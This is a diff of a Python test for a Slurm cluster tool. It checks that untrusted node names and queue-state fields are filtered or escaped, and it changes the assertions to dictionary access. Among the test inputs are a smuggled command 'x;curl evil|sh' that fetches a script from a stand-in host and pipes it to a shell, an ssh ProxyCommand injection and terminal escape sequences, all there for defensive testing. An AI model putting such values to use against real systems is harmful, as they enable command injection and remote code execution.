@@ -64,16 +64,14 @@ def test_what_is_no_nodes_name_is_in_no_command() -> None:
     """A login node names the nodes of a check, and a name stands in commands that are pasted."""
     names = ["n1", "n1", "x;curl evil|sh", "\x1b[2J", "-oProxyCommand=x", None, "n2", "n3"]
     FakeSession.frames += map(member, names)
-    found = [
-        one.name for one in slurm.gather_facts(LOGIN, SUBMISSION, 2) if isinstance(one, slurm.AllocatedNode)
-    ]
+    found = [one[0]["node"] for one in slurm.gather_facts(LOGIN, SUBMISSION, 2) if isinstance(one, tuple)]
     assert found == ["n1", "n2"]
     evil = Untrusted(
         {"failure": {"node": "x;sh", "text": "t"}, "job": "\x1b]0;x\x07", "nodes": "\x1b[2J", "doing": "\x9b"}
     )
     state = slurm.parse_queue_state(evil)
-    assert (state.job, state.nodes, state.doing) == ("", "\\x1b[2J", "\\x9b")
-    assert state.failure is not None and state.failure.node == "?"
+    assert (state["job"], state["nodes"], state["doing"]) == ("", "\\x1b[2J", "\\x9b")
+    assert state["failure"] is not None and state["failure"]["node"] == "?"
 
 
 @pytest.mark.parametrize("frame", [{"need": "judge"}, {}, {"submitted": {"job": "\x1b]0;x\x07"}}])
